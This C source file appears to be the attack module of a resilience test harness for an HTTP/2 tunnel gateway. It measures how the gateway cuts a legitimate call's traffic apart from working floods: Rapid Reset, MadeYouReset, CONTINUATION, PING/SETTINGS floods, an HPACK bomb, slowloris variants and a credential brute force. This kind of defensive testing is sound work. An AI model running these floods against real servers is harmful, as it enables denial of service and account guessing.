/*
 * ts_attack.c — see ts_attack.h.
 */
#include "ts_attack.h"

#include <errno.h>
#include <inttypes.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../../proto/capsule.h"
#include "ts_h2raw.h"
#include "ts_hist.h"
#include "ts_util.h"

/* ---- the legitimate call --------------------------------------------------- */

#define ACALL_MARK 'L'
#define ACALL_MAX_LEN 1400u
#define ACALL_CATCHUP 10 /* packets one late wake-up may send */

struct ts_acall {
    int fd;
    ts_addr_t to;
    unsigned pps;
    size_t len;
    pthread_t thread;
    atomic_int stop;
    atomic_uint phase;
    pthread_mutex_t mu;           /* guards what follows */
    uint64_t sent[TS_ACALL_PHASES], received[TS_ACALL_PHASES];
    int64_t last_rx_ns;
    ts_hist_t hist[TS_ACALL_PHASES];
};

static void acall_recv(ts_acall_t *a)
{
    uint8_t p[2048];
    for (int k = 0; k < 64; k++) {
        ssize_t n = recv(a->fd, p, sizeof p, MSG_DONTWAIT);
        if (n < 0)
            return;
        if ((size_t)n != a->len || p[0] != 0x80 || p[1] != ACALL_MARK ||
            p[2] >= TS_ACALL_PHASES)
            continue;
        int64_t sent_ns, now = ts_now_ns();
        memcpy(&sent_ns, p + 8, sizeof sent_ns);
        pthread_mutex_lock(&a->mu);
        a->received[p[2]]++;
        a->last_rx_ns = now;
        ts_hist_add(&a->hist[p[2]], (uint64_t)(now > sent_ns ? now - sent_ns : 0));
        pthread_mutex_unlock(&a->mu);
    }
}

static void *acall_main(void *arg)
{
    ts_acall_t *a = arg;
    int64_t period = 1000000000 / a->pps, next = ts_now_ns();
    uint32_t seq = 0;
    uint8_t p[ACALL_MAX_LEN];
    memset(p, 0, sizeof p);
    while (!atomic_load(&a->stop)) {
        int64_t now = ts_now_ns();
        for (int k = 0; now >= next && k < ACALL_CATCHUP; k++, next += period) {
            unsigned ph = atomic_load(&a->phase);
            p[0] = 0x80; /* RFC 7983: RTP */
            p[1] = ACALL_MARK;
            p[2] = (uint8_t)ph;
            memcpy(p + 4, &seq, sizeof seq);
            seq++;
            int64_t ts = ts_now_ns();
            memcpy(p + 8, &ts, sizeof ts);
            pthread_mutex_lock(&a->mu);
            a->sent[ph]++;
            pthread_mutex_unlock(&a->mu);
            /* A send the kernel refuses is a lost packet like any other. */
            sendto(a->fd, p, a->len, MSG_DONTWAIT, (const struct sockaddr *)&a->to.sa, a->to.len);
        }
        if (now >= next) /* far behind: do not send a burst to catch up */
            next = now + period;
        int wait_ms = (int)((next - ts_now_ns()) / 1000000);
        struct pollfd pf = {.fd = a->fd, .events = POLLIN};
        if (poll(&pf, 1, wait_ms < 0 ? 0 : wait_ms > 5 ? 5 : wait_ms) > 0)
            acall_recv(a);
    }
    return NULL;
}

ts_acall_t *ts_acall_start(int fd, const ts_addr_t *to, unsigned pps, size_t len)
{
    if (pps == 0 || pps > 10000 || len < 32 || len > ACALL_MAX_LEN)
        return NULL;
    ts_acall_t *a = calloc(1, sizeof *a);
    if (!a)
        return NULL;
    a->fd = fd;
    a->to = *to;
    a->pps = pps;
    a->len = len;
    for (unsigned i = 0; i < TS_ACALL_PHASES; i++)
        ts_hist_init(&a->hist[i]);
    pthread_mutex_init(&a->mu, NULL);
    if (pthread_create(&a->thread, NULL, acall_main, a) != 0) {
        pthread_mutex_destroy(&a->mu);
        free(a);
        return NULL;
    }
    return a;
}

void ts_acall_phase(ts_acall_t *a, unsigned phase)
{
    atomic_store(&a->phase, phase < TS_ACALL_PHASES ? phase : 0);
}

void ts_acall_stats(ts_acall_t *a, unsigned phase, ts_acall_stats_t *out)
{
    memset(out, 0, sizeof *out);
    if (phase >= TS_ACALL_PHASES)
        return;
    pthread_mutex_lock(&a->mu);
    out->sent = a->sent[phase];
    out->received = a->received[phase];
    out->p50_ns = ts_hist_percentile(&a->hist[phase], 50);
    out->p99_ns = ts_hist_percentile(&a->hist[phase], 99);
    out->max_ns = a->hist[phase].count ? a->hist[phase].max : 0;
    pthread_mutex_unlock(&a->mu);
}

void ts_acall_settle(ts_acall_t *a, unsigned phase, int quiet_ms, int64_t deadline)
{
    for (;;) {
        pthread_mutex_lock(&a->mu);
        int done = a->received[phase] >= a->sent[phase] ||
                   ts_now_ns() - a->last_rx_ns >= (int64_t)quiet_ms * 1000000;
        pthread_mutex_unlock(&a->mu);
        if (done || ts_remaining_ms(deadline) == 0)
            return;
        poll(NULL, 0, 10); /* polling a condition, bounded by deadline */
    }
}

void ts_acall_stop(ts_acall_t *a)
{
    if (!a)
        return;
    atomic_store(&a->stop, 1);
    pthread_join(a->thread, NULL);
    pthread_mutex_destroy(&a->mu);
    free(a);
}

/* ---- helpers ---------------------------------------------------------------- */

#define CUT_WAIT_MS 15000     /* a flood must be cut within this */
#define FLOOD_BATCH 256       /* frames per flush */

static ts_h2raw_t attacker;   /* large: one, reused by every attack */

const char *ts_attack_h2_error(uint32_t code)
{
    static const char *const names[] = {
        "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
        "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
    return code < sizeof names / sizeof names[0] ? names[code] : "unknown";
}

static int attacker_connect(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    ts_h2raw_close(&attacker);
    if (ts_h2raw_connect(&attacker, &env->gw, env->ca_file, ts_deadline(ts_ms(10000))) < 0) {
        snprintf(res->why, sizeof res->why, "attacker connect: %.200s", attacker.err);
        ts_h2raw_close(&attacker);
        return -1;
    }
    return 0;
}

/* Waits for the gateway to close the attacker's connection and fills res
 * from what it saw. */
static void h2_finish(ts_attack_result_t *res, int64_t t0_ns)
{
    ts_h2raw_wait_closed(&attacker, ts_deadline(ts_ms(CUT_WAIT_MS)));
    res->cut = attacker.closed;
    res->cut_ms = (ts_now_ns() - t0_ns) / 1000000;
    res->goaway = attacker.goaway;
    res->goaway_code = attacker.goaway_code;
    snprintf(res->goaway_debug, sizeof res->goaway_debug, "%s", attacker.goaway_debug);
    if (attacker.goaway)
        snprintf(res->how, sizeof res->how, "GOAWAY %s \"%.100s\"%s",
                 ts_attack_h2_error(attacker.goaway_code), attacker.goaway_debug,
                 attacker.closed ? ", closed" : ", NOT closed");
    else
        snprintf(res->how, sizeof res->how, "%s without GOAWAY",
                 attacker.closed ? "closed" : "NOT closed");
    ts_h2raw_close(&attacker);
}

/* Writes up to max frames from make(i) as fast as the socket takes them. */
typedef int (*frame_fn)(int i, const ts_attack_env_t *env);

static uint64_t flood(int max, frame_fn make, const ts_attack_env_t *env)
{
    uint64_t sent = 0;
    for (int i = 0; i < max && !attacker.closed; i++) {
        if (make(i, env) < 0)
            break;
        sent++;
        if (sent % FLOOD_BATCH == 0 && (ts_h2raw_flush(&attacker) < 0 ||
                                        ts_h2raw_poll(&attacker, ts_now_ms()) < 0))
            break;
    }
    ts_h2raw_flush(&attacker);
    return sent;
}

/* Flags for h2_flood. */
enum { FL_OPEN_STREAM = 1, FL_NO_ACK = 2 };

static int h2_flood(const ts_attack_env_t *env, ts_attack_result_t *res, int flags, int max,
                    frame_fn make)
{
    int open_stream = flags & FL_OPEN_STREAM;
    if (attacker_connect(env, res) < 0)
        return -1;
    if (flags & FL_NO_ACK)
        attacker.auto_ack = 0;
    if (open_stream) {
        if (ts_h2raw_request(&attacker, 1, env->path, env->username, env->credential, 0) < 0 ||
            ts_h2raw_wait_status(&attacker, 1, ts_deadline(ts_ms(10000))) != 200) {
            snprintf(res->why, sizeof res->why, "the attacker's tunnel did not open: %.200s",
                     attacker.err);
            ts_h2raw_close(&attacker);
            return -1;
        }
    }
    int64_t t0 = ts_now_ns();
    res->sent = flood(max, make, env);
    h2_finish(res, t0);
    return 0;
}

/* ---- HTTP/2 floods ---------------------------------------------------------- */

static const uint8_t cancel_code[4] = {0, 0, 0, NGHTTP2_CANCEL};

static int mk_rapid_reset(int i, const ts_attack_env_t *env)
{
    int32_t id = 2 * i + 1;
    if (ts_h2raw_queue_request(&attacker, id, env->path, env->username, env->credential, 0) < 0)
        return -1;
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_RST_STREAM, 0, id, cancel_code, 4);
}

static int mk_rapid_reset_badcred(int i, const ts_attack_env_t *env)
{
    int32_t id = 2 * i + 1;
    if (ts_h2raw_queue_request(&attacker, id, env->path, env->username, "AAAAAAAAAAAAAAAAAAAAAAAAAAA=",
                               0) < 0)
        return -1;
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_RST_STREAM, 0, id, cancel_code, 4);
}

static int attack_rapid_reset(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    return h2_flood(env, res, 0, 20000, mk_rapid_reset);
}

static int attack_rapid_reset_badcred(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    return h2_flood(env, res, 0, 20000, mk_rapid_reset_badcred);
}

/* MadeYouReset (CVE-2025-8671): requests the SERVER must reset, so that no
 * RST_STREAM of the client's counts against a reset limit. nghttp2 turns
 * WINDOW_UPDATE 0 and DATA after END_STREAM into connection errors (GOAWAY
 * at the first one), so the streams here are malformed requests, each a
 * stream error (RFC 9113 §8.1.1): a connection-specific header field
 * (§8.2.2), or a content-length the (absent) body does not match. */
static int mk_made_you_reset(int i, const ts_attack_env_t *env)
{
    int32_t id = 2 * i + 1;
    nghttp2_nv nv[] = {
        {(uint8_t *)":method", (uint8_t *)"POST", 7, 4, 0},
        {(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, 0},
        {(uint8_t *)":authority", (uint8_t *)"sluice", 10, 6, 0},
        {(uint8_t *)":path", (uint8_t *)env->path, 5, strlen(env->path), 0},
        {(uint8_t *)"tunnel-username", (uint8_t *)env->username, 15, strlen(env->username), 0},
        {(uint8_t *)"tunnel-credential", (uint8_t *)env->credential, 17,
         strlen(env->credential), 0},
        {(uint8_t *)(i % 2 ? "connection" : "content-length"),
         (uint8_t *)(i % 2 ? "keep-alive" : "10"), i % 2 ? 10 : 14, i % 2 ? 10 : 2, 0},
    };
    /* Queued, not flushed per request: flood() writes in batches and reads
     * between them, like the other floods. */
    static uint8_t block[1024];
    ssize_t n = ts_h2raw_hpack(&attacker, nv, 7, block, sizeof block);
    if (n < 0)
        return -1;
    uint8_t flags = NGHTTP2_FLAG_END_HEADERS | (i % 2 ? 0 : NGHTTP2_FLAG_END_STREAM);
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_HEADERS, flags, id, block, (size_t)n);
}

static int attack_made_you_reset(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    return h2_flood(env, res, 0, 20000, mk_made_you_reset);
}

static int mk_continuation(int i, const ts_attack_env_t *env)
{
    if (i == 0)
        return ts_h2raw_queue_request(&attacker, 1, env->path, env->username, env->credential,
                                      TS_H2RAW_NO_END_HEADERS);
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_CONTINUATION, 0, 1, NULL, 0);
}

static int attack_continuation(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    return h2_flood(env, res, 0, 20000, mk_continuation);
}

static int mk_ping(int i, const ts_attack_env_t *env)
{
    uint8_t opaque[8] = {0};
    memcpy(opaque, &i, sizeof i);
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_PING, 0, 0, opaque, 8);
}

static int mk_settings(int i, const ts_attack_env_t *env)
{
    /* SETTINGS_ENABLE_PUSH = 0: harmless, each frame wants an ACK (§6.5.3). */
    static const uint8_t s[6] = {0, 2, 0, 0, 0, 0};
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_SETTINGS, 0, 0, s, sizeof s);
}

static int mk_window_update(int i, const ts_attack_env_t *env)
{
    static const uint8_t one[4] = {0, 0, 0, 1};
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_WINDOW_UPDATE, 0, 0, one, 4);
}

static int mk_empty_data(int i, const ts_attack_env_t *env)
{
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_DATA, 0, 1, NULL, 0);
}

/* PRIORITY for ever new idle streams (RFC 9113 §5.3.2 keeps the frame legal;
 * an RFC 7540 scheduler builds a tree node for each). */
static int mk_priority(int i, const ts_attack_env_t *env)
{
    uint8_t p[5] = {0, 0, 0, 0, 15};
    uint32_t dep = (uint32_t)(2 * i + 1);
    p[0] = (uint8_t)(dep >> 24);
    p[1] = (uint8_t)(dep >> 16);
    p[2] = (uint8_t)(dep >> 8);
    p[3] = (uint8_t)dep;
    return ts_h2raw_queue_frame(&attacker, NGHTTP2_PRIORITY, 0, 2 * i + 3, p, sizeof p);
}

static int attack_ping(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return h2_flood(e, r, FL_NO_ACK, 50000, mk_ping);
}
static int attack_settings(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return h2_flood(e, r, FL_NO_ACK, 50000, mk_settings);
}
static int attack_window_update(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return h2_flood(e, r, 0, 50000, mk_window_update);
}
static int attack_empty_data(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return h2_flood(e, r, FL_OPEN_STREAM, 50000, mk_empty_data);
}
static int attack_priority(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return h2_flood(e, r, 0, 50000, mk_priority);
}

/* HPACK amplification: one 4,000-byte field indexed once, then referenced
 * with one byte each: a 12 KB block that decodes to ~48 MB of header list
 * (RFC 7541 §2.3.3, §6.1). Repeated on new streams. */
static int attack_hpack_bomb(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    enum { REFS = 12000, BOMBS = 6 };
    static uint8_t block[TS_H2RAW_BOMB_CAP(REFS)];
    if (attacker_connect(env, res) < 0)
        return -1;
    int64_t t0 = ts_now_ns();
    for (int b = 0; b < BOMBS && !attacker.closed; b++) {
        size_t n = ts_h2raw_hpack_bomb(block, env->path, b == 0, REFS);
        if (ts_h2raw_queue_block(&attacker, 2 * b + 1, block, n, 0) < 0)
            break;
        if (ts_h2raw_flush(&attacker) < 0)
            break;
        res->sent++;
        ts_h2raw_poll(&attacker, ts_now_ms());
    }
    h2_finish(res, t0);
    return 0;
}

/* Header lists over the advertised 16 KiB (SETTINGS_MAX_HEADER_LIST_SIZE,
 * RFC 9113 §6.5.2): one 20,000-byte field per request. */
static int attack_oversized_headers(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    static char big[20000];
    memset(big, 'a', sizeof big - 1);
    if (attacker_connect(env, res) < 0)
        return -1;
    int64_t t0 = ts_now_ns();
    for (int i = 0; i < 50 && !attacker.closed; i++) {
        nghttp2_nv nv[] = {
            {(uint8_t *)":method", (uint8_t *)"POST", 7, 4, 0},
            {(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, 0},
            {(uint8_t *)":authority", (uint8_t *)"sluice", 10, 6, 0},
            {(uint8_t *)":path", (uint8_t *)env->path, 5, strlen(env->path), 0},
            {(uint8_t *)"x-big", (uint8_t *)big, 5, sizeof big - 1, NGHTTP2_NV_FLAG_NO_INDEX},
        };
        if (ts_h2raw_headers(&attacker, 2 * i + 1, nv, 5, 0) < 0)
            break;
        res->sent++;
        ts_h2raw_poll(&attacker, ts_now_ms());
    }
    h2_finish(res, t0);
    return 0;
}

/* Credential brute force: wrong credentials for a real user, as fast as the
 * gateway answers, on new connections whenever one is cut, for the
 * attack's duration. */
static int attack_brute_force(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    int64_t t0 = ts_now_ns(), end = ts_deadline(env->duration_ms > 0 ? env->duration_ms : 2000);
    uint64_t conns = 0, guesses = 0, goaways = 0, refused = 0, answered_401 = 0;
    int first = 1;
    while (ts_remaining_ms(end) > 0) {
        ts_h2raw_close(&attacker);
        if (ts_h2raw_connect(&attacker, &env->gw, env->ca_file, end) < 0) {
            refused++; /* the per-source handshake rate, or the deadline */
            ts_h2raw_close(&attacker);
            continue;
        }
        conns++;
        for (int i = 0; i < 1000 && !attacker.closed && !attacker.goaway &&
                        ts_remaining_ms(end) > 0;
             i++) {
            char guess[64];
            snprintf(guess, sizeof guess, "AAAA%08dAAAAAAAAAAAAAAAA=", i);
            if (ts_h2raw_request(&attacker, 2 * i + 1, env->path, env->username, guess,
                                 TS_H2RAW_END_STREAM) < 0)
                break;
            guesses++;
            if (ts_h2raw_wait_status(&attacker, 2 * i + 1, end) == 401)
                answered_401++;
        }
        ts_h2raw_wait_closed(&attacker, ts_deadline(ts_ms(CUT_WAIT_MS)));
        if (attacker.goaway)
            goaways++;
        if (first) {
            /* The first connection is the one the row reports. */
            first = 0;
            res->cut = attacker.closed && attacker.goaway;
            res->cut_ms = (ts_now_ns() - t0) / 1000000;
            res->goaway = attacker.goaway;
            res->goaway_code = attacker.goaway_code;
            snprintf(res->goaway_debug, sizeof res->goaway_debug, "%s",
                     attacker.goaway_debug);
        }
    }
    ts_h2raw_close(&attacker);
    res->sent = guesses;
    double s = (double)(ts_now_ns() - t0) / 1e9;
    snprintf(res->how, sizeof res->how,
             "GOAWAY %s \"%.60s\" after %" PRIu64 " 401s per connection; %" PRIu64
             " guesses in %.1f s (%.0f/s) on %" PRIu64 " connections, %" PRIu64
             " connects refused",
             ts_attack_h2_error(res->goaway_code), res->goaway_debug,
             conns ? answered_401 / conns : 0, guesses, s, guesses / s, conns, refused);
    return 0;
}

/* More tunnels than SETTINGS_MAX_CONCURRENT_STREAMS on one connection: the
 * ones over the cap are refused (RFC 9113 §5.1.2: RST_STREAM REFUSED_STREAM
 * or PROTOCOL_ERROR), the connection and the first max_streams stay. */
static int attack_many_tunnels(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    uint32_t cap = env->max_streams ? env->max_streams : 100;
    uint32_t n = cap * 3;
    if (attacker_connect(env, res) < 0)
        return -1;
    int64_t t0 = ts_now_ns();
    for (uint32_t i = 0; i < n && !attacker.closed; i++) {
        if (ts_h2raw_queue_request(&attacker, (int32_t)(2 * i + 1), env->path, env->username,
                                   env->credential, 0) < 0)
            break;
        res->sent++;
    }
    ts_h2raw_flush(&attacker);
    /* Every request answered: a 200 (HEADERS) or a reset. */
    int64_t dl = ts_deadline(ts_ms(10000));
    while (!attacker.closed && ts_remaining_ms(dl) > 0 &&
           attacker.frames_in[NGHTTP2_HEADERS] + attacker.frames_in[NGHTTP2_RST_STREAM] <
               res->sent)
        ts_h2raw_poll(&attacker, ts_deadline(50));
    uint64_t ok = attacker.frames_in[NGHTTP2_HEADERS],
             rst = attacker.frames_in[NGHTTP2_RST_STREAM];
    res->cut_ms = (ts_now_ns() - t0) / 1000000;
    res->goaway = attacker.goaway;
    res->goaway_code = attacker.goaway_code;
    snprintf(res->goaway_debug, sizeof res->goaway_debug, "%s", attacker.goaway_debug);
    /* Capped, not cut: the connection may keep its max_streams tunnels. */
    res->cut = ok <= cap && ok + rst >= res->sent;
    snprintf(res->how, sizeof res->how,
             "%" PRIu64 " requested: %" PRIu64 " opened (max_streams %u), %" PRIu64
             " reset%s%s%s",
             res->sent, ok, cap, rst, attacker.goaway ? "; GOAWAY " : "",
             attacker.goaway ? ts_attack_h2_error(attacker.goaway_code) : "",
             attacker.closed ? "; closed" : "; connection kept");
    ts_h2raw_close(&attacker);
    return 0;
}

/* Tunnel open/close churn: open a batch of tunnels, wait for their 200s,
 * cancel them all, over and over on one connection, for the attack's
 * duration. Each request and each reset spends the control-frame budget
 * (max_control_frames_s), so churn beyond half of it is cut. */
static int churn_answered(const ts_h2raw_t *c, void *arg)
{
    return c->frames_in[NGHTTP2_HEADERS] + c->frames_in[NGHTTP2_RST_STREAM] >=
           *(const uint64_t *)arg;
}

static int attack_churn(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    enum { BATCH = 50 };
    if (attacker_connect(env, res) < 0)
        return -1;
    int64_t t0 = ts_now_ns(), end = ts_deadline(env->duration_ms > 0 ? env->duration_ms : 2000);
    int32_t id = 1;
    while (!attacker.closed && !attacker.goaway && ts_remaining_ms(end) > 0 && id < (1 << 30)) {
        int32_t first = id;
        for (int k = 0; k < BATCH; k++, id += 2)
            if (ts_h2raw_queue_request(&attacker, id, env->path, env->username, env->credential,
                                       0) < 0)
                break;
        if (ts_h2raw_flush(&attacker) < 0)
            break;
        res->sent += (uint64_t)(id - first) / 2;
        uint64_t want = res->sent;
        if (ts_h2raw_wait(&attacker, churn_answered, &want, end) < 0)
            break;
        for (int32_t k = first; k < id; k += 2)
            if (ts_h2raw_queue_frame(&attacker, NGHTTP2_RST_STREAM, 0, k, cancel_code, 4) < 0)
                break;
        if (ts_h2raw_flush(&attacker) < 0)
            break;
    }
    uint64_t opened = attacker.frames_in[NGHTTP2_HEADERS];
    double s = (double)(ts_now_ns() - t0) / 1e9;
    if (!attacker.goaway && !attacker.closed) {
        /* Never cut within the duration: the churn stayed within the budget. */
        res->cut = 0;
        res->cut_ms = (ts_now_ns() - t0) / 1000000;
        snprintf(res->how, sizeof res->how,
                 "not cut: %" PRIu64 " tunnels opened and closed in %.1f s (%.0f/s)", opened,
                 s, opened / s);
        ts_h2raw_close(&attacker);
        return 0;
    }
    h2_finish(res, t0);
    size_t l = strlen(res->how);
    snprintf(res->how + l, sizeof res->how - l, " after %" PRIu64 " tunnels (%.0f/s)", opened,
             opened / s);
    return 0;
}

/* Zero window: a tunnel whose client never returns flow-control credit
 * while its media keeps coming back. Cut at limits.write_stall_ms. */
static int attack_zero_window(const ts_attack_env_t *env, ts_attack_result_t *res)
{
    if (attacker_connect(env, res) < 0)
        return -1;
    attacker.auto_window = 0;
    if (ts_h2raw_request(&attacker, 1, env->path, env->username, env->credential, 0) < 0 ||
        ts_h2raw_wait_status(&attacker, 1, ts_deadline(ts_ms(10000))) != 200) {
        snprintf(res->why, sizeof res->why, "the attacker's tunnel did not open: %.200s",
                 attacker.err);
        ts_h2raw_close(&attacker);
        return -1;
    }
    int64_t t0 = ts_now_ns(), dl = ts_deadline(ts_ms(CUT_WAIT_MS));
    static uint8_t pkt[1200], capsule[1300];
    pkt[0] = 0x80;
    ssize_t k = capsule_encode_datagram(capsule, sizeof capsule, pkt, sizeof pkt);
    while (k > 0 && !attacker.closed && ts_remaining_ms(dl) > 0) {
        if (ts_h2raw_send_frame(&attacker, NGHTTP2_DATA, 0, 1, capsule, (size_t)k) < 0)
            break;
        res->sent++;
        ts_h2raw_poll(&attacker, ts_deadline(20)); /* 50 pps of 1,200 B */
    }
    h2_finish(res, t0);
    return 0;
}

/* ---- the list ------------------------------------------------------------- */

const ts_attack_t ts_attacks[] = {
    {"rapid_reset", "HEADERS + RST_STREAM pairs, valid credentials", attack_rapid_reset},
    {"rapid_reset_badcred", "HEADERS + RST_STREAM pairs, wrong credentials", attack_rapid_reset_badcred},
    {"made_you_reset", "malformed requests the server must reset itself (a connection "
                       "header, a content-length with no body)", attack_made_you_reset},
    {"continuation", "one header block of endless empty CONTINUATIONs", attack_continuation},
    {"ping", "PING flood, never reading the ACKs", attack_ping},
    {"settings", "SETTINGS flood", attack_settings},
    {"window_update", "WINDOW_UPDATE flood", attack_window_update},
    {"empty_data", "empty DATA flood on an open tunnel", attack_empty_data},
    {"priority", "PRIORITY flood on new idle streams", attack_priority},
    {"hpack_bomb", "HPACK amplification: 12 KB blocks decoding to 48 MB", attack_hpack_bomb},
    {"oversized_headers", "20,000-byte header field per request", attack_oversized_headers},
    {"zero_window", "a tunnel whose window stays shut while media comes back",
     attack_zero_window},
    {"slowloris_tls", "connections whose TLS handshake never finishes", ts_attack__slowloris_tls},
    {"slowloris_headers", "TLS done, a header block never finished", ts_attack__slowloris_headers},
    {"bare_tcp", "bare TCP connections from one source, nothing sent", ts_attack__bare_tcp},
    {"brute_force", "wrong credentials for a real user, as fast as answered",
     attack_brute_force},
    {"many_tunnels", "3x max_streams tunnels on one connection", attack_many_tunnels},
    {"churn", "50 tunnels opened, their 200s awaited, all cancelled, over and over", attack_churn},
};
const size_t ts_attacks_n = sizeof ts_attacks / sizeof ts_attacks[0];

const ts_attack_t *ts_attack_find(const char *name)
{
    for (size_t i = 0; i < ts_attacks_n; i++)
        if (!strcmp(ts_attacks[i].name, name))
            return &ts_attacks[i];
    return NULL;
}

int ts_attack_run(const ts_attack_t *a, const ts_attack_env_t *env, ts_attack_result_t *res)
{
    memset(res, 0, sizeof *res);
    return a->run(env, res);
}
